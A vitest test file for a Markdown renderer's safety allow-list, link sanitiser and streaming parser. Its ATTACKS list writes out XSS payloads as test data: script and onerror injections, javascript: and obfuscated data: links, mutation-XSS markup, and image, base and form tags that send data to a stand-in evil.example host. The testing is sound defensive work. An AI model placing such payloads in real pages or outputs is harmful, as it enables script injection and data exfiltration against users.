// @vitest-environment jsdom
import fc from 'fast-check';
import { render } from 'lit';
import { describe, expect, it } from 'vitest';
import { decodeEntities, safeHref } from './inline.js';
import { IncrementalMarkdown, parseMarkdown } from './parse.js';
import { renderBlocks } from './render.js';
import { settle } from './settle.js';
import type { Block, Inline } from './tree.js';

const context = { cite: () => undefined, copyCodeLabel: 'Copy code', copyCode: () => undefined, version: 0 };

function toDom(markdown: string): HTMLElement {
  const root = document.createElement('div');
  render(renderBlocks(parseMarkdown(markdown), context), root);
  return root;
}

const ALLOWED = new Set(
  'P H3 UL OL LI BLOCKQUOTE DIV SPAN BUTTON PRE CODE TABLE THEAD TBODY TR TH TD HR STRONG EM DEL BR A'.split(' '),
);
const ALLOWED_ATTRIBUTES = new Set([
  'class',
  'start',
  'dir',
  'tabindex',
  'scope',
  'href',
  'title',
  'target',
  'rel',
  'type',
]);

function expectSafe(markdown: string): void {
  for (const element of toDom(markdown).querySelectorAll('*')) {
    expect(ALLOWED, markdown).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES, markdown).toContain(name);
    if (element.tagName !== 'A') continue;
    expect(element.getAttribute('href')).toMatch(/^(?:https?|mailto):/);
    expect(element.getAttribute('rel')).toContain('noopener');
  }
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61vascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/x)',
  '[x](/relative)',
  '[x](http://user:pass@evil.example)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <b>y</b> |',
  '- <script>alert(1)</script>\n  > <style>*{display:none}</style>',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example">',
  '<form action="//evil.example"><input name=q></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '# <script>alert(1)</script>',
  '**<img src=x onerror=alert(1)>**',
  'a\u0000b <scr\u0000ipt>',
];

describe('Markdown allow-list', () => {
  it.each(ATTACKS)('shows %j as text or not at all', (attack) => {
    expectSafe(attack);
    expectSafe(`before ${attack} after\n\n${attack}`);
  });

  it('is safe for any mixture of attacks, markup and text', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string(),
      fc.constantFrom('**', '`', '\n\n', '- ', '> ', '|', '[', ']('),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectSafe(pieces.join(''))),
      { numRuns: 300 },
    );
  });

  it('replaces images by their description', () => {
    const root = toDom('See ![the chart](https://evil.example/p.png?q=1)');
    expect(root.textContent).toContain('See the chart');
    expect(root.innerHTML).not.toContain('evil.example');
  });

  it('accepts http, https and mailto only, without credentials', () => {
    expect(safeHref('https://example.com/a b')).toBe('https://example.com/a%20b');
    expect(safeHref('mailto:a@example.com')).toBe('mailto:a@example.com');
    for (const bad of ['tel:1', 'ftp://x', 'blob:https://x/1', 'file:///etc', '#x', 'x'])
      expect(safeHref(bad)).toBeUndefined();
  });

  it('decodes character references to text', () => {
    expect(decodeEntities('&lt;b&gt; &amp;amp; &#8364; &#x1F600; &nosuch; &#xD800;')).toBe(
      '<b> &amp; € 😀 &nosuch; &#xD800;',
    );
    expect(toDom('a &lt;b&gt; c').textContent).toBe('a <b> c');
  });
});

describe('Markdown to templates', () => {
  it('renders the elements of answers', () => {
    const root = toDom(
      '# T\n\na **b** *c* ~~d~~ `e` [f](https://x.test) [1]\n\n3. x\n   - y\n\n> q\n\n```js\nlet a\n```\n\n| h |\n|--:|\n| 1 |\n\n---',
    );
    const shape = [...root.children].map((element) => element.tagName);
    expect(shape).toEqual(['H3', 'P', 'OL', 'BLOCKQUOTE', 'DIV', 'DIV', 'HR']);
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(root.querySelector('li ul li')?.textContent).toBe('y');
    expect(root.querySelector('pre code')?.textContent).toBe('let a');
    expect(root.querySelector('td')?.className).toBe('end');
  });

  it('does not turn visible text into a heading or a link later', () => {
    expect(parseMarkdown('Some text\n---')[0]?.kind).toBe('paragraph');
    expect(toDom('[x] and more\n\n[x]: https://x.test').querySelector('p')?.textContent).toBe('[x] and more');
  });
});

const inlineText = (children: readonly Inline[]): string =>
  children
    .map((child) => {
      if (child.kind === 'cite') return `[${child.n}]`;
      if (child.kind === 'break') return ' ';
      return 'children' in child ? inlineText(child.children) : child.text;
    })
    .join('');

/** Visible text of the blocks, without white space. */
const plain = (blocks: readonly Block[]): string => blocks.map(blockText).join('').replace(/\s+/g, '');

function blockText(shown: Block): string {
  switch (shown.kind) {
    case 'list':
      return shown.items.map((item) => plain(item)).join('');
    case 'quote':
      return plain(shown.children);
    case 'code':
      return shown.language + shown.text;
    case 'table':
      return [shown.head, ...shown.rows].flat().map(inlineText).join('');
    case 'rule':
      return '';
    default:
      return inlineText(shown.children);
  }
}

/** Markdown typical of models. */
const word = fc.constantFrom(
  'returns',
  'within',
  '30',
  'days',
  'über',
  'e.g.',
  'a-b',
  'x_y',
  '2 * 3',
  '(see',
  'below)',
  '日本',
);
const phrase = fc.array(word, { minLength: 1, maxLength: 4 }).map((words) => words.join(' '));
const span = fc.oneof(
  phrase,
  phrase.map((p) => `**${p}**`),
  phrase.map((p) => `*${p}*`),
  phrase.map((p) => `\`${p}\``),
  phrase.map((p) => `[${p}](https://example.com/a?b=c)`),
  fc.constantFrom('[1]', '[12]'),
);
const line = fc.array(span, { minLength: 1, maxLength: 4 }).map((spans) => spans.join(' '));
const block = fc.oneof(
  line,
  line.map((l) => `## ${l}`),
  fc.array(line, { minLength: 1, maxLength: 3 }).map((lines) => lines.map((l) => `- ${l}`).join('\n')),
  fc.array(line, { minLength: 1, maxLength: 3 }).map((lines) => lines.map((l, i) => `${i + 1}. ${l}`).join('\n')),
  line.map((l) => `> ${l}`),
  phrase.map((p) => `\`\`\`sh\n${p}\n${p}\n\`\`\``),
  phrase.map((p) => `| ${p} | b |\n| --- | ---: |\n| ${p} | 1 |\n| x | ${p} |`),
);
const documents = fc.array(block, { minLength: 1, maxLength: 5 }).map((blocks) => blocks.join('\n\n'));

describe('streamed Markdown', () => {
  it('ends with the same result as parsing the whole text, for any split', () => {
    fc.assert(
      fc.property(documents, fc.array(fc.nat(400), { maxLength: 8 }), (text, cuts) => {
        const stream = new IncrementalMarkdown();
        for (const cut of cuts.sort((a, b) => a - b)) stream.update(text.slice(0, cut), false);
        expect(stream.update(text, true)).toEqual(parseMarkdown(text));
      }),
    );
  });

  it('only appends: at any time the visible text is a prefix of the final one', () => {
    fc.assert(
      fc.property(documents, (text) => {
        const final = plain(parseMarkdown(text));
        const stream = new IncrementalMarkdown();
        for (let at = 1; at < text.length; at++) {
          const now = plain(stream.update(text.slice(0, at), false));
          if (!final.startsWith(now))
            throw new Error(`at ${at} ${JSON.stringify(text.slice(0, at))}: ${now} ≠ ${final}`);
        }
      }),
      { numRuns: 60 },
    );
  });

  it('keeps the identity of finished blocks, so that their DOM is reused', () => {
    const stream = new IncrementalMarkdown();
    const before = stream.update('First paragraph.\n\nSecond par', false);
    const after = stream.update('First paragraph.\n\nSecond paragraph, longer.', false);
    expect(after[0]).toBe(before[0]);
  });

  it('starts over for a different text', () => {
    const stream = new IncrementalMarkdown();
    stream.update('one\n\ntwo\n\nthree', false);
    expect(stream.update('other', true)).toEqual(parseMarkdown('other'));
  });

  it.each([
    ['closes open emphasis', 'a **bold', 'a **bold**'],
    ['keeps a star inside a word', '**2*3', '**2*3**'],
    ['holds back an open link', 'see [the page](https://ex', 'see '],
    ['keeps a citation mark', 'within 30 days [1],', 'within 30 days [1],'],
    ['holds back a line that is only a marker', 'text\n\n##', 'text'],
    ['holds back a table until it is complete enough', 'text\n\n| a | b |\n| -', 'text\n'],
  ])('%s', (_what, tail, settled) => {
    expect(settle(tail).trimEnd()).toBe(settled.trimEnd());
  });
});
